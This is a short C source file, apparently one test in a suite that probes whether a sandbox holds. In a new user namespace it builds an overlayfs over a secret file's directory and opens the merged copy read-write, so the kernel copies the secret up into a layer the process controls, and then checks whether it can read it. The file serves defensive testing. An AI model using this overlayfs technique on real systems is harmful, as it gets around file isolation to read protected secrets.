/* SPDX-License-Identifier: Apache-2.0 */
/* The kernel is made to copy the secret up into a layer of ours. */
#include "t/attack/attack.h"

int main(int argc, char **argv)
{
	const char *secret = attack_secret(argc, argv);
	const char *scratch = attack_scratch(argc, argv);
	char *tmp = attack_path(scratch, "layers"), *merged;
	char options[4 * PATH_MAX];
	int ret;

	mkdir(tmp, 0700);
	ret = attack_userns(CLONE_NEWNS);
	if (ret == 0 && mount("tmpfs", tmp, "tmpfs", 0, NULL) < 0)
		ret = attack_cannot("tmpfs");
	if (ret == 0) {
		mkdir(attack_path(tmp, "upper"), 0700);
		mkdir(attack_path(tmp, "work"), 0700);
		merged = attack_path(tmp, "merged");
		mkdir(merged, 0700);
		snprintf(options, sizeof(options),
			 "userxattr,lowerdir=%s,upperdir=%s/upper,workdir=%s/work",
			 attack_dirname(secret), tmp, tmp);
		if (mount("overlay", merged, "overlay", 0, options) < 0)
			ret = attack_cannot("overlay");
		else
			ret = attack_read(open(attack_path(merged, attack_basename(secret)),
					       O_RDWR | O_CLOEXEC));
		umount2(merged, MNT_DETACH);
		umount2(tmp, MNT_DETACH);
	}
	rmdir(tmp);
	return ret;
}
